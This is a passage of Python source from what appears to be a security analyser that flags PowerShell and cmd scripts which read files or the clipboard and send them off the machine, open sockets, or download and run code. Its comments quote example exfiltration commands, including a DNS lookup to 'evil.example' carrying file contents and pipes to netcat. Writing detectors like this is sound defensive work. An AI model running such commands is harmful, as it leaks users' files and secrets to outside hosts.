    if op.shell in ("program", "cmd") and program_stem(op.name) in _ADDRESS_PROGRAMS:
        # A variable no standard environment defines holds what the script put there (`$env:D = gc a.txt; cmd /c
        # "nslookup %D%.evil.example"`): the value travels in the name as a computed one would (S-RULE-99).
        return any(a is None or unknown_variable(op.shell, a) is not None for a in op.args)
    if op.shell == "powershell" and op.name == "start-process":  # `Start-Process msedge "https://…$d"`
        bound = bind(op, ("filepath", "argumentlist"))
        started = first(bound, "filepath")
        return (
            started is not None
            and program_stem(started) in _ADDRESS_PROGRAMS
            and ("argumentlist" in bound and first(bound, "argumentlist") is None)
        )
    if op.shell == "powershell" and op.name in _BODY_SENDERS:
        body = [v for k, v in op.params if k in ("body", "attachments")]
        return op.input_from is not None or any(v is None for v in body)
    if op.shell in ("dotnet", "com"):
        return _method(op) in _UPLOAD_METHODS and any(a is None for a in op.args) or _opens_socket(op)
    if op.shell in ("program", "cmd") and op.input_from is not None and program_stem(op.name) in NETWORK_SENDERS:
        # `Get-Content a.txt | ssh host "cat > a"`, `… | nc host 4444`: what is piped in goes to the other end, as
        # cmd's `nc host < a.txt` sends its file (S-RULE-158, S-RULE-170).
        return True
    return op.shell == "powershell" and op.name == "new-object" and _opens_socket(op)


# .NET sockets: whatever the script writes to one leaves the machine, and which value is not followed (S-RULE-158).
_SOCKET_TYPES = re.compile(r"(?:^|\.)(?:net\.sockets\.)?(?:tcpclient|udpclient|socket)\b", re.IGNORECASE)


def _opens_socket(op: Operation) -> bool:
    """`New-Object Net.Sockets.TcpClient(host, port)` or `[Net.Sockets.UdpClient]::new(…)`: a socket the script made
    (its `Send`/`Connect` need one, and only a constructor or New-Object makes a socket the analyser can name)."""
    if op.shell == "powershell":
        type_name = first(bind(op, ("typename", "argumentlist")), "typename")
        return type_name is not None and "sockets." in type_name.lower() and bool(_SOCKET_TYPES.search(type_name))
    name = op.name.lower()
    return "net.sockets." in name and name.endswith("::new")


def _reads_content(op: Operation) -> bool:
    return (
        (op.shell == "powershell" and op.name in _CONTENT_READERS)
        or (op.shell == "dotnet" and _FILE_READ_CALLS.search(op.name) is not None)
        or (op.shell == "cmd" and op.name == "type")  # cmd's `type a.txt | nc host 4444`
    )


def _reads_clipboard(op: Operation) -> bool:
    return (op.shell == "powershell" and op.name == "get-clipboard") or (
        op.shell == "dotnet" and _CLIPBOARD_READ_CALLS.search(op.name) is not None
    )


def _read_then_sent(ops: Sequence[Operation]) -> Effects:
    """UPLOAD of each file whose content the script reads when it also sends a value it computed off the
    machine (S-RULE-99): `$d = Get-Content a.txt; Invoke-RestMethod … -Body $d`, `gc a.txt | iwr … -Method Post`,
    `WebClient.UploadString(url, (gc a.txt -Raw))`. Which value is sent is not followed: any file read may be.
    The clipboard read the same way is sent too (`Get-Clipboard | irm … -Method Post`): a password manager
    leaves a password there (S-RULE-136)."""
    senders = [op for op in ops if _sends_a_value(op)]
    if not senders:
        return ()
    detail = (
        f"read, then sent ({display(senders[0].name) if senders[0].shell == 'powershell' else _method(senders[0])})"
    )
    files = tuple(
        effect(K.UPLOAD, e.target, detail)
        for op in ops
        if _reads_content(op)
        for e in effects_of(op)
        if e.kind is K.READ and e.target is not None
    )
    return files + ((effect(K.UPLOAD, CLIPBOARD, detail),) if any(_reads_clipboard(op) for op in ops) else ())


_REG_FILES = frozenset({".reg"})


def _imported(own: Effects, index: int, reg_files: Mapping[str, tuple[int, Value]]) -> Effects:
    """An import of a `.reg` file written earlier in the command with constant content is the changes that
    content makes (`reg_file`), not a change nobody can name (S-RULE-117)."""
    out: list[Effect] = []
    for e in own:
        source = dict(e.extra).get("file") if e.kind is K.REGISTRY_SET and e.target is None else None
        base = ntpath.basename(unquote(source).replace("/", "\\")).lower() if source else ""
        written = reg_files.get(base)
        if written is not None and written[0] < index and written[1] is not None:
            out += reg_file_effects(written[1], base)
        else:
            out.append(e)
    return tuple(out)


def pipeline_effects(ops: Sequence[Operation]) -> Effects:
    """The effects of a whole analysis: each operation's, refined by the others, plus cross-operation ones.

    Args:
        ops: the operations of one analysis, in source order (nested ones included).

    Returns:
        The effects, each once: every operation's own (`effects_of`), with piped input and
        objects made earlier named (module docstring 1–3), and `DOWNLOAD_EXECUTE` when one
        operation fetches code or a file and another runs it (4).
    """
    found: list[Effect] = []
    per_op: list[Effects] = []
    mapped = mapped_drives(ops)
    reg_files = written_files(ops, _REG_FILES)
    for index, op in enumerate(ops):
        refined = _in_context(ops, index)
        own = fed_effects(ops, index, effects_of(op) if refined is None else refined)
        own = _imported(own, index, reg_files) if reg_files else own
        own = _selected_values(ops, index, own)
        own += copied_off(own, mapped) + written_off(own, mapped)
        per_op.append(own)
        found += own
    found += in_folder(ops, per_op)
    found += through_unknown_variables(ops, per_op)
    found += unread_scripts_of(ops, per_op)
    found += _shadow_copies_deleted(ops)
    found += security_software_removed(ops)
    found += _download_execute(ops)
    found += _share_copy_run(ops)
    found += run_in_remote_folder(ops, mapped)
    found += _read_then_sent(ops)
    found += pushed_to_added_remote(ops)
    found += editor_files_written(ops, per_op)
    found += password_pages_opened(per_op)  # a browser's saved passwords shown (S-RULE-214)
    return dedupe(found)
